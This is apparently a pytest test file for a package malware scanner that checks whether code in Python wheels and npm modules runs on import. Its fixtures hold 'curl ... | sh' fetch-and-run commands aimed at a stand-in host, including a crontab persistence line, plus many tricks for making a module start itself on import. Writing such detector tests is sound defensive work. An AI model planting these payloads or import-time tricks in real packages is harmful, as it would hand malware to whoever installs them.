"""What a file keeps for its start as a program runs on import, where the import starts it so."""

import pytest
from engine_flows import program_of

from ostiary.core.coverage import Reach
from ostiary.program.flow import Act, Flow

HARM = "os.system('curl http://a.example.invalid/x | sh')"
HEAD = "import importlib.util, inspect, os, runpy, shutil, subprocess, sys\n"
KEPT = f"{HEAD}if __name__ == '__main__':\n    {HARM}\n"

STARTS = {
    "its path": "subprocess.Popen([sys.executable, __file__])",
    "its name": "subprocess.run([sys.executable, '-m', __name__])",
    "its written name": "subprocess.run([sys.executable, '-m', 'sample.part'])",
    "a path that is worked out": "os.system(f'{sys.executable} {os.path.abspath(__file__)} &')",
    "its name beside it": "subprocess.run(['python3', os.path.join(os.path.dirname(__file__), 'part.py')])",
    "an interpreter that was looked for": "subprocess.run([shutil.which('python3'), __file__])",
    "an interpreter without a window": "subprocess.run(['pythonw.exe', __file__])",
    "the second of two commands": "os.system('cd /tmp && nohup python3 %s &' % __file__)",
    "a shell in between": "os.system('sh -c \"python3 %s\"' % __file__)",
    "another program in its place": "os.execv(sys.executable, [sys.executable, __file__])",
    "a copy": "shutil.copy(__file__, '/tmp/u.py'); subprocess.run(['python3', '/tmp/u.py'])",
    "the file of its own function": "subprocess.run(['python3', (lambda: 0).__code__.co_filename])",
    "the file of its frame": "subprocess.run(['python3', inspect.getfile(inspect.currentframe())])",
    "what its loader says": "subprocess.run([sys.executable, __spec__.origin])",
    "its text as input": "subprocess.run([sys.executable, '-'], stdin=open(__file__))",
    "run by path": "runpy.run_path(__file__, run_name='__main__')",
    "run by name": "runpy.run_module('sample.part', run_name='__main__')",
    "loaded as the program": "s = importlib.util.spec_from_file_location('__main__', __file__)",
    "executed as the program": "exec(open(__file__).read(), {'__name__': '__main__'})",
    "compiled as the program": "exec(compile(open(__file__).read(), 'x', 'exec'), dict(__name__='__main__'))",
}

SAYS = {
    "by assignment": "__name__ = '__main__'",
    "in a loop": "for __name__ in ['__main__']: pass",
    "among the globals": "globals()['__name__'] = '__main__'",
    "by an update": "globals().update(__name__='__main__')",
    "through the module": "sys.modules[__name__].__name__ = '__main__'",
}


def harm(text: str, form: str = "wheel") -> list[Flow]:
    """What fetches and runs, in a module that somebody has to import by its name."""
    files = {
        "wheel": {"sample/__init__.py": "", "sample/part.py": text},
        "npm": {"index.js": text, "package.json": '{"name": "x", "main": "index.js"}'},
    }
    flows = program_of(form, files[form]).flows
    return [one for one in flows if one.act is Act.RUN and "curl" in one.text]


@pytest.mark.parametrize("start", STARTS)
def test_a_file_that_starts_itself(start: str) -> None:
    begun = harm(f"{KEPT}else:\n    {STARTS[start]}\n")
    assert Reach.IMPORT in {one.reach for one in begun}


@pytest.mark.parametrize("start", STARTS)
def test_who_has_to_be_called_starts_nothing_on_import(start: str) -> None:
    begun = harm(f"{KEPT}\ndef begin():\n    {STARTS[start]}\n")
    assert begun
    assert {one.reach for one in begun} == {Reach.CALL}


@pytest.mark.parametrize("way", SAYS)
def test_a_file_that_says_it_is_the_program(way: str) -> None:
    begun = harm(KEPT.replace("if __name__", f"{SAYS[way]}\nif __name__"))
    assert {one.reach for one in begun} == {Reach.IMPORT}


@pytest.mark.parametrize("way", ["sys.frozen = True", "setattr(sys, 'frozen', 1)"])
def test_a_file_that_says_it_comes_with_its_interpreter(way: str) -> None:
    asks = f"if getattr(sys, 'frozen', False):\n    {HARM}\n"
    assert {one.reach for one in harm(HEAD + asks)} == {Reach.CALL}
    assert {one.reach for one in harm(f"{HEAD}{way}\n{asks}")} == {Reach.IMPORT}


def test_a_text_that_is_started_as_a_program_is_the_program() -> None:
    inner = f"import os\\nif __name__ == \\'__main__\\':\\n    {HARM}".replace("'curl", "\\'curl")
    inner = inner.replace("sh')", "sh\\')")
    for start in (
        f"subprocess.run([sys.executable, '-c', '{inner}'])",
        f"subprocess.run([sys.executable], input='{inner}')",
    ):
        begun = [one for one in harm(HEAD + start) if one.name == "os.system"]
        assert {one.reach for one in begun} == {Reach.IMPORT}


JS_HARM = "require('child_process').execSync('curl http://a.example.invalid/x | sh')"
THREADS = "const {Worker, isMainThread, workerData, parentPort} = require('worker_threads');"
SCRIPTS = {
    "a fork": f"if (require.main === module) {JS_HARM}; else require('child_process').fork(__filename)",
    "a process": f"if (require.main === module) {JS_HARM};"
    " else require('child_process').execFileSync(process.execPath, [__filename])",
    "a line": f"if (require.main === module) {JS_HARM};"
    " else require('child_process').exec('node ' + __filename)",
    "a thread": f"{THREADS} if (isMainThread) new Worker(__filename); else {JS_HARM}",
    "a thread with data": f"{THREADS} if (workerData) {JS_HARM};"
    " else new Worker(__filename, {workerData: {a: 1}})",
    "what it says of itself": f"require.main = module; if (require.main === module) {JS_HARM};",
    "no thread": f"{THREADS} if (workerData === null) {JS_HARM};",
    "data of its own": f"const w = {{workerData: {{a: 1}}}}; if (w.workerData) {JS_HARM};",
    "no port": f"{THREADS} if (!parentPort) {JS_HARM};",
}
WAITING = {
    "for its start": f"if (require.main === module) {JS_HARM};",
    "for a thread": f"{THREADS} if (!isMainThread) {JS_HARM};",
    "for data": f"{THREADS} if (workerData) {JS_HARM};",
    "for some data": "let t; try { t = require('worker_threads') } catch {} var a;"
    "var inside = ((a = t == null ? void 0 : t.workerData) == null ? void 0 : a.version) === '1';"
    f"if (inside) {JS_HARM};",
    "for a port": f"{THREADS} if (parentPort) {JS_HARM};",
}


@pytest.mark.parametrize("way", SCRIPTS)
def test_a_script_that_starts_itself(way: str) -> None:
    assert Reach.IMPORT in {one.reach for one in harm(SCRIPTS[way], "npm")}


@pytest.mark.parametrize("way", WAITING)
def test_a_script_that_waits_for_whoever_starts_it(way: str) -> None:
    assert {one.reach for one in harm(WAITING[way], "npm")} == {Reach.CALL}


@pytest.mark.parametrize("name", ["run", "tool/run"])
def test_a_script_without_any_ending_is_loaded_by_its_bare_name(name: str) -> None:
    files = {
        "index.js": f"module.exports = require('./{name}');",
        name: f"const one = require('os');\n{JS_HARM};\nmodule.exports = one;\n",
        "LICENSE": "Everybody may use what module.exports holds.\n",
    }
    program = program_of("npm", files)
    run = [one for one in program.flows if one.act is Act.RUN]
    assert {(one.at.path, one.reach) for one in run} == {(f"package/{name}", Reach.IMPORT)}
    assert "package/LICENSE" not in {one.path for one in program.modules}


INPUTS = {
    "of a shell": "subprocess.run(['sh'], input=b'curl http://a.example.invalid/x | sh')",
    "of a shell in words": "subprocess.check_output('bash', input='curl http://a.example.invalid/x | sh')",
    "of a table": "subprocess.run(['crontab', '-'], input='* * * * * curl http://a.example.invalid/x | sh')",
}


@pytest.mark.parametrize("way", INPUTS)
def test_what_a_program_is_started_with_is_run(way: str) -> None:
    assert harm(HEAD + INPUTS[way])


def test_the_input_of_a_script_that_is_named_is_data() -> None:
    text = "subprocess.run(['sh', 'known.sh'], input=b'curl http://a.example.invalid/x | sh')"
    assert not harm(HEAD + text)
    script = (
        "require('child_process').execSync('sh', {input: 'curl http://a.example.invalid/x | sh'})"
    )
    assert harm(script, "npm")
    assert not harm(script.replace("'sh'", "'sh known.sh'"), "npm")
